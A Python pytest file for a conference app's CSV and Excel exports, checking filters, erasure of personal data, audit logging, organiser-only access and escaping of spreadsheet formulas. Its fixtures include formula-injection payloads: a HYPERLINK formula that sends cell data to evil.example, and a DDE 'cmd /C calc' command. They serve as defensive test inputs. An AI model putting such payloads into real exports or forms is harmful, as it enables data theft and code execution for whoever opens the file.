"""The console's exports: the delegate list (with the list's filters), dietary and access needs, and attendance,
as CSV (read back with the csv module) and Excel (read back with openpyxl); formula injection neutralised in both;
erased registrations without personal data; download headers; audit entries; organisers only."""

from __future__ import annotations

import csv
import io
import re
import uuid
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import openpyxl
import pytest
import sqlalchemy as sa
from sqlmodel import col

from conference import exports
from conference.core import spreadsheets
from conference.core.db import Database
from conference.core.models import AuditEntry, Registration
from sessions.models import Kind, RoomCreate, SessionCreate, TimeSlotCreate
from sessions.workshops import programme
from tests.factories import ORGANISER, registration_body
from tests.support import HTML, organiser_token, post_registration, sign_in, staff_token

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def read_csv(response: httpx.Response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")  # the BOM: Excel then reads UTF-8
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def read_xlsx(response: httpx.Response) -> list[list[Any]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == XLSX
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    sheet = workbook.worksheets[0]
    for line in sheet.iter_rows():
        for cell in line:
            assert cell.data_type != "f", f"a formula reached the workbook: {cell.value!r}"
    return [["" if v is None else v for v in line] for line in sheet.iter_rows(values_only=True)]


async def audits(database: Database, action: str) -> list[AuditEntry]:
    async with database.read() as db:
        return list(
            (
                await db.execute(
                    sa.select(AuditEntry).where(col(AuditEntry.action) == action).order_by(col(AuditEntry.id))
                )
            ).scalars()
        )


async def erase(database: Database, registration_id: str) -> None:
    # The erasure itself blanks the fields; here they are left, to show the export does not rely on that.
    async with database.transaction() as db:
        r = await db.get(Registration, uuid.UUID(registration_id))
        assert r is not None
        r.erased_at = datetime.now(UTC)


@pytest.fixture
async def people(organiser: httpx.AsyncClient, database: Database, tickets: dict[str, Any]) -> dict[str, Any]:
    client = organiser
    made = {
        "evil": await post_registration(
            client,
            registration_body(
                tickets["delegate"],
                name=EVIL_NAME,
                organisation="+44 Trading",
                job_title="@SUM(1,2)",
                dietary="-1+1 vegan",
                access_needs="=cmd|' /C calc'!A0",
                region="London",
                email="evil@leeds.gov.uk",
            ),
        ),
        "plain": await post_registration(
            client,
            registration_body(
                tickets["delegate"],
                name="Zoë Plain",
                organisation="Kent Police",
                sector="police",
                dietary="Coeliac",
            ),
        ),
        "erased": await post_registration(
            client,
            registration_body(
                tickets["delegate"],
                name="Erin Erased",
                email="erin@leeds.gov.uk",
                dietary="Kosher",
                organisation="Secret Org",
            ),
        ),
        "gone": await post_registration(client, registration_body(tickets["delegate"], dietary="Vegan")),
        "quiet": await post_registration(
            client, registration_body(tickets["delegate"], name="Quentin Quiet")
        ),
    }
    await erase(database, made["erased"]["id"])
    cancelled = await client.delete(
        f"/api/v1/registrations/{made['gone']['id']}",
        headers={"authorization": f"Bearer {made['gone']['manage_token']}"},
    )
    assert cancelled.status_code in (200, 204), cancelled.text
    made["extra"] = await post_registration(
        client, registration_body(tickets["delegate"], name="Xavier Extra")
    )
    made["waiting"] = await post_registration(
        client, registration_body(tickets["delegate"], name="Wanda Waiting", access_needs="Wheelchair user")
    )
    assert made["waiting"]["status"] == "waitlisted"  # capacity 5
    return made


async def test_delegate_list_csv_and_xlsx_agree_and_are_neutralised(
    organiser: httpx.AsyncClient, database: Database, people: dict[str, Any]
) -> None:
    client = organiser
    response = await client.get("/console/exports/delegates.csv")
    assert response.headers["cache-control"] == "private, no-store"
    disposition = response.headers["content-disposition"]
    assert disposition.startswith('attachment; filename="delegates-20') and disposition.endswith('.csv"')
    rows = read_csv(response)
    header, body = rows[0], rows[1:]
    assert header[:10] == [
        "Reference",
        "Status",
        "Name",
        "Email",
        "Organisation",
        "Job title",
        "Sector",
        "Region",
        "Ticket type",
        "Payment method",
    ]
    assert header[10].startswith("Registered (")
    by_ref = {r[0]: r for r in body}
    assert set(by_ref) == {p["reference"] for p in people.values()}  # every registration, cancelled ones too
    evil = by_ref[people["evil"]["reference"]]
    assert evil[1:10] == [
        "Confirmed",
        "'" + EVIL_NAME,
        "evil@leeds.gov.uk",
        "'+44 Trading",
        "'@SUM(1,2)",
        "Local authority",
        "London",
        "Delegate",
        "Nothing to pay",
    ]
    assert (
        by_ref[people["plain"]["reference"]][2] == "Zoë Plain"
        and by_ref[people["plain"]["reference"]][6] == "Police"
    )
    assert by_ref[people["gone"]["reference"]][1] == "Cancelled"
    assert by_ref[people["waiting"]["reference"]][1] == "Waitlisted"
    erased = by_ref[people["erased"]["reference"]]
    assert erased[2:8] == ["[erased]", "", "", "", "", ""]
    assert "erin" not in response.text.lower() and "Secret Org" not in response.text
    assert len(evil[10]) == 16 and evil[10][4] == "-"  # 2026-05-01 12:00, local time

    workbook = read_xlsx(await client.get("/console/exports/delegates.xlsx"))
    assert workbook[0] == header
    xrows = {r[0]: r for r in workbook[1:]}
    assert set(xrows) == set(by_ref)
    for reference, line in by_ref.items():
        assert [str(v) for v in xrows[reference][:10]] == line[:10], reference
        assert isinstance(xrows[reference][10], datetime)
        assert xrows[reference][10].strftime("%Y-%m-%d %H:%M") == line[10]

    entries = await audits(database, "conference.export.delegates")
    assert [(e.data["format"], e.data["rows"]) for e in entries] == [("csv", 7), ("xlsx", 7)]
    assert entries[0].actor == "organiser:Test organiser" and entries[0].data["searched"] is False
    for e in entries:
        assert "evil" not in str(e.data) and "Zoë" not in str(e.data)


async def test_delegate_list_respects_the_list_filters(
    organiser: httpx.AsyncClient, database: Database, people: dict[str, Any]
) -> None:
    client = organiser
    waiting = read_csv(await client.get("/console/exports/delegates.csv?status=waitlisted"))
    assert [r[0] for r in waiting[1:]] == [people["waiting"]["reference"]]
    searched = read_xlsx(await client.get("/console/exports/delegates.xlsx?q=kent%20pol"))
    assert [r[0] for r in searched[1:]] == [people["plain"]["reference"]]
    free = read_csv(await client.get("/console/exports/delegates.csv?payment=free&status=cancelled"))
    assert [r[0] for r in free[1:]] == [people["gone"]["reference"]]
    entries = await audits(database, "conference.export.delegates")
    assert [(e.data["status"], e.data["searched"], e.data["rows"]) for e in entries] == [
        ("waitlisted", False, 1),
        (None, True, 1),
        ("cancelled", False, 1),
    ]
    assert all("kent" not in str(e.data).lower() for e in entries)
    # The list page links to the export with its own filters.
    page = await client.get("/console/registrations?status=waitlisted&q=wanda", headers=HTML)
    assert 'href="/console/exports/delegates.csv?q=wanda&amp;status=waitlisted"' in page.text
    assert (
        'href="/console/exports/dietary.xlsx"' in page.text
        and 'href="/console/exports/attendance.csv"' in page.text
    )


async def test_dietary_and_access_needs_for_the_venue(
    organiser: httpx.AsyncClient, database: Database, people: dict[str, Any]
) -> None:
    client = organiser
    response = await client.get("/console/exports/dietary.csv")
    assert 'filename="dietary-20' in response.headers["content-disposition"]
    rows = read_csv(response)
    assert rows[0] == ["Reference", "Name", "Organisation", "Dietary requirements", "Access needs"]
    # Holding a place and with a need: not the quiet one, not the cancelled, the erased or the waiting list.
    assert {r[0] for r in rows[1:]} == {people["evil"]["reference"], people["plain"]["reference"]}
    evil = next(r for r in rows if r[0] == people["evil"]["reference"])
    assert evil[1:] == ["'" + EVIL_NAME, "'+44 Trading", "'-1+1 vegan", "'=cmd|' /C calc'!A0"]
    workbook = read_xlsx(await client.get("/console/exports/dietary.xlsx"))
    assert [[str(v) for v in r] for r in workbook] == rows
    assert [
        (e.data["format"], e.data["rows"]) for e in await audits(database, "conference.export.dietary")
    ] == [("csv", 2), ("xlsx", 2)]


async def test_attendance_lists_door_and_session_check_ins(
    organiser: httpx.AsyncClient, database: Database, people: dict[str, Any]
) -> None:
    client = organiser
    async with database.transaction() as db:
        room = await programme.create_room(db, data=RoomCreate(name="Room A", capacity=20), actor=ORGANISER)
        start = datetime(2026, 12, 8, 10, tzinfo=UTC)
        slot = await programme.create_slot(
            db, data=TimeSlotCreate(starts_at=start, ends_at=start + timedelta(hours=1)), actor=ORGANISER
        )
        session = await programme.create_session(
            db,
            data=SessionCreate(
                title="=Workshop on risk", kind=Kind.workshop, room_id=room.id, start_slot_id=slot.id
            ),
            actor=ORGANISER,
        )
    staff = {"authorization": f"Bearer {await staff_token(database)}"}
    org = {"authorization": f"Bearer {await organiser_token(database)}"}
    plain, evil = people["plain"], people["evil"]
    booked = await client.post(
        f"/api/v1/registrations/{plain['id']}/sessions", headers=org, json={"session_id": str(session.id)}
    )
    assert booked.status_code == 201, booked.text
    for body in (
        {"reference": plain["reference"], "list": "door"},
        {"reference": plain["reference"], "list": str(session.id)},
        {"reference": plain["reference"], "list": "door"},  # a second scan: already in, not counted
        {"reference": evil["reference"], "list": str(session.id)},  # not booked: refused, not counted
        {"reference": people["erased"]["reference"], "list": "door"},
    ):  # erased here, still confirmed
        assert (await client.post("/api/v1/checkins", headers=staff, json=body)).status_code == 200

    response = await client.get("/console/exports/attendance.csv")
    rows = read_csv(response)
    assert rows[0][:6] == ["Reference", "Name", "Organisation", "Ticket type", "Status", "Came"]
    assert rows[0][7:] == ["Sessions attended", "Session check-ins"]
    by_ref = {r[0]: r for r in rows[1:]}
    # Those holding a place, came or not (not the waiting list, not the cancelled who never came).
    assert set(by_ref) == {people[k]["reference"] for k in ("evil", "plain", "erased", "quiet", "extra")}
    came = by_ref[plain["reference"]]
    assert came[1:6] == ["Zoë Plain", "Kent Police", "Delegate", "Confirmed", "Yes"]
    assert (
        came[6]
        and came[7] == "1"
        and re.fullmatch(r"'=Workshop on risk \(\w{3} \d\d? \w{3} \d{4}, \d\d:\d\d\)", came[8])
    )
    assert by_ref[evil["reference"]][5:9] == ["No", "", "0", ""]
    erased = by_ref[people["erased"]["reference"]]
    assert erased[1:3] == ["[erased]", ""] and erased[5] == "Yes"
    workbook = read_xlsx(await client.get("/console/exports/attendance.xlsx"))
    xrow = next(r for r in workbook if r[0] == plain["reference"])
    assert isinstance(xrow[6], datetime) and xrow[7] == 1 and xrow[8] == came[8]
    assert [
        (e.data["format"], e.data["rows"]) for e in await audits(database, "conference.export.attendance")
    ] == [("csv", 5), ("xlsx", 5)]


async def test_exports_are_for_organisers_only(
    client: httpx.AsyncClient, database: Database, tickets: dict[str, Any]
) -> None:
    paths = [f"/console/exports/{kind}.{fmt}" for kind in exports.KINDS for fmt in ("csv", "xlsx")]
    for path in paths:
        anonymous = await client.get(path, headers=HTML)
        assert anonymous.status_code == 303 and "/login?next=" in anonymous.headers["location"], path
    await sign_in(client, await staff_token(database))
    for path in paths:
        assert (await client.get(path, headers=HTML)).status_code == 403, path
    await sign_in(client, await organiser_token(database))
    assert (await client.get("/console/exports/delegates.pdf", headers=HTML)).status_code == 404
    async with database.read() as db:
        exported = (
            await db.execute(
                sa.select(sa.func.count())
                .select_from(AuditEntry)
                .where(col(AuditEntry.action).like("conference.export.%"))
            )
        ).scalar_one()
    assert exported == 0


def test_safe_neutralises_every_formula_start() -> None:
    for text in ("=1+1", "+1", "-1", "@A1", "\tTAB", "\rCR"):
        assert spreadsheets.cell(text) == "'" + text
    for value in ("Plain", "1-2", "a=b", "", None, 5):
        assert spreadsheets.cell(value) == value
    sheet = spreadsheets.Sheet("Test", ["A"], [["\x01bad\tcontrol=x"], ["\t=tab"]])
    workbook = openpyxl.load_workbook(io.BytesIO(spreadsheets.to_xlsx(sheet)))
    assert [c.value for c in workbook.worksheets[0]["A"]] == ["A", "bad\tcontrol=x", "'\t=tab"]
    text = spreadsheets.to_csv(sheet).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text)))[2] == ["'\t=tab"]


def test_control_characters_are_stripped_before_a_formula_is_neutralised() -> None:
    # Stripped after neutralising, "\x01=HYPERLINK(...)" would start with "=" again: a live formula.
    hidden = '\x01=HYPERLINK("x")'
    assert spreadsheets.cell(hidden) == '\'=HYPERLINK("x")'
    sheet = spreadsheets.Sheet("Test", ["A"], [[hidden], ["\x7f\x1b+1"]])
    workbook = openpyxl.load_workbook(io.BytesIO(spreadsheets.to_xlsx(sheet)))
    assert [c.value for c in workbook.worksheets[0]["A"]] == ["A", '\'=HYPERLINK("x")', "'+1"]
    rows = list(csv.reader(io.StringIO(spreadsheets.to_csv(sheet).decode("utf-8-sig"))))
    assert rows == [["A"], ['\'=HYPERLINK("x")'], ["'+1"]]
    assert spreadsheets.csv_line([hidden, 1, None]) == '"\'=HYPERLINK(""x"")",1,\r\n'
